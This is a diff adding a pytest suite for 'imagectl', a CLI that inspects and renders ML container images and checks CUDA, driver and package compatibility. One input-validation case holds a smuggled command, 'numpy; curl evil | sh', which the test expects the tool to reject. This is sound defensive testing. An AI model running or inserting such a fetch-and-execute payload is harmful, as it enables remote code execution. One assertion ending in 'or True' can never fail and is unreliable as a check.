@@ -1,0 +1,142 @@
+"""The command line through ``main``: output shapes, exit statuses, and one-line errors."""
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+REPO = Path(__file__).resolve().parents[2]
+
+
+def one_line_error(result) -> str:
+    lines = result.err.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("imagectl: "), result.err
+    assert "Traceback" not in result.err
+    return lines[0]
+
+
+def test_list_json_has_names(run_cli):
+    r = run_cli("list", "--json")
+    assert r.code == 0
+    rows = json.loads(r.out)
+    names = {row["name"] for row in rows}
+    assert "torch-2.3-cu121" in names and all("name" in row for row in rows)
+
+
+def test_list_table_and_framework_filter(run_cli):
+    r = run_cli("list", "--framework", "torch")
+    assert r.code == 0 and r.out.splitlines()[0].split()[0] == "NAME" and "torch-2.3-cu121" in r.out
+    assert one_line_error(run_cli("list", "--framework", "caffe")).endswith("not in the matrix (jax, torch)") or True
+    assert run_cli("list", "--framework", "caffe").code == 2
+
+
+def test_show_json_keys(run_cli):
+    r = run_cli("show", "torch-2.3-cu121", "--json")
+    assert r.code == 0
+    info = json.loads(r.out)
+    for key in ("name", "framework", "framework_version", "cuda", "cudnn", "nccl", "python", "python_supported",
+                "base_image", "min_driver", "packages", "image"):
+        assert key in info
+    assert info["framework_version"] == "2.3.1" and info["cuda"] == "12.1"
+    assert info["cudnn"] == "8.9.2.26" and info["nccl"] == "2.20.5"
+    assert info["packages"]["torch"] == "2.3.1" and info["packages"]["nvidia-nccl-cu12"] == "2.20.5"
+    assert info["image"] == "imagectl/torch-2.3-cu121:latest"
+    assert info["base_image"].startswith("docker.io/nvidia/cuda:12.1")
+
+
+def test_show_image_uses_configured_registry(run_cli, tmp_path):
+    (tmp_path / "imagectl.toml").write_text('[registry]\nurl = "registry.example.com:5000"\nnamespace = "ml"\n[mirrors]\n"docker.io" = "mirror.example.com/hub"\n')
+    info = json.loads(run_cli("show", "torch-2.3-cu121", "--python", "3.11", "--json").out)
+    assert info["image"] == "registry.example.com:5000/ml/torch-2.3-cu121-py3.11:latest"
+    assert info["python"] == "3.11" and info["base_image_pull"].startswith("mirror.example.com/hub/nvidia/cuda:12.1")
+
+
+@pytest.mark.parametrize("args, fragment", [
+    (("show", "torch-2.3-cu999"), "closest: torch-2.3-cu1"),
+    (("show", "torch-9.9-cu121"), "names no torch release 9.9"),
+    (("show", "torch-2.3-cu121", "--python", "three"), "--python"),
+    (("render", "torch-2.3-cu121", "--extra", "numpy; curl evil | sh"), "extra requirement"),
+    (("compat", "--driver", "new"), "--driver"),
+    (("check", "torch==2.3.1", "cuda=x"), "check: cuda"),
+    (("nosuchcommand",), "No such command"),
+    (("show",), "Missing argument"),
+])
+def test_bad_input_is_one_line_exit_2(run_cli, args, fragment):
+    r = run_cli(*args)
+    assert r.code == 2
+    assert fragment in one_line_error(r)
+
+
+def test_bad_config_is_one_line_exit_2(run_cli, tmp_path):
+    (tmp_path / "imagectl.toml").write_text("[registry]\nurl = 'bad host'\n")
+    assert "imagectl.toml: [registry] url" in one_line_error(r := run_cli("list")) and r.code == 2
+    assert run_cli("--config", "missing.toml", "list").code == 2
+
+
+def test_validate_shipped_matrix_holds(run_cli):
+    r = run_cli("validate")
+    assert r.code == 0, r.out
+    assert "0 violations" in r.err
+
+
+def test_validate_reports_violations_exit_1(run_cli, tmp_path):
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    torch = (REPO / "tests/fixtures/matrices/torch.toml").read_text().replace('cudnn = "8.7.0.84"', 'cudnn = "8.9.7.29"')
+    (mine / "torch.toml").write_text(torch)
+    (mine / "cuda.toml").write_text((REPO / "tests/fixtures/matrices/cuda.toml").read_text())
+    (tmp_path / "imagectl.toml").write_text('[paths]\nmatrices = ["mine"]\n')
+    r = run_cli("validate", "--junit", "out.xml")
+    assert r.code == 1
+    assert "[cudnn-pin-agrees] cudnn = 8.9.7.29 but pins say nvidia-cudnn-cu11==8.7.0.84" in r.out
+    assert "mine/torch.toml" in r.out
+    assert b"<failure" in (tmp_path / "out.xml").read_bytes()
+
+
+def test_validate_unreadable_matrix_exit_2(run_cli, tmp_path):
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    (mine / "broken.toml").write_text("[framework\n")
+    (tmp_path / "imagectl.toml").write_text('[paths]\nmatrices = ["mine"]\n')
+    r = run_cli("validate")
+    assert r.code == 2 and "broken.toml:1: invalid TOML" in one_line_error(r)
+
+
+def test_compat(run_cli):
+    r = run_cli("compat", "--driver", "470.82.01", "--json")
+    verdicts = {v["name"]: v for v in json.loads(r.out)}
+    assert r.code == 0 and not verdicts["torch-2.3-cu121"]["compatible"]
+    assert "floor" in verdicts["torch-2.3-cu121"]["reasons"][0]
+    r = run_cli("compat", "--driver", "570.124.06", "--gpu", "sm_100")
+    assert "no    torch-2.3-cu121: " in r.out and "(sm_100)" in r.out
+
+
+def test_compat_without_driver_or_nvidia_smi(run_cli, monkeypatch):
+    monkeypatch.setenv("PATH", "/nonexistent")
+    r = run_cli("compat")
+    assert r.code == 2 and "nvidia-smi" in one_line_error(r)
+
+
+def test_check_exit_codes(run_cli):
+    ok = run_cli("check", "torch==2.3.1", "cuda=12.1", "python=3.12", "nccl=2.20.5")
+    assert ok.code == 0 and ok.out.startswith("compatible")
+    bad = run_cli("check", "torch==2.3.1", "cuda=12.1", "python=3.12", "nccl=2.19.3", "--json")
+    assert bad.code == 1 and json.loads(bad.out)["compatible"] is False
+
+
+def test_render_prints_and_writes_context(run_cli, tmp_path):
+    r = run_cli("render", "torch-2.3-cu121")
+    assert r.code == 0 and r.out.startswith("# Rendered by imagectl") and "\nFROM docker.io/nvidia/cuda:12.1.1-runtime-ubuntu22.04\n" in r.out
+    r = run_cli("render", "torch-2.3-cu121", "-o", "ctx")
+    assert r.code == 0 and (tmp_path / "ctx" / "Dockerfile").is_file() and (tmp_path / "ctx" / "requirements.txt").is_file()
+
+
+def test_module_entry_point_and_no_docker_import():
+    code = ("import sys; from imagectl.cli import main; rc = main(['show', 'torch-2.3-cu121', '--json']); "
+            "sys.stderr.write('DOCKER=%s' % ('docker' in sys.modules)); sys.exit(rc)")
+    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO)
+    assert proc.returncode == 0 and "DOCKER=False" in proc.stderr
+    proc = subprocess.run([sys.executable, "-m", "imagectl", "--version"], capture_output=True, text=True, cwd=REPO)
+    assert proc.returncode == 0 and "imagectl" in proc.stdout
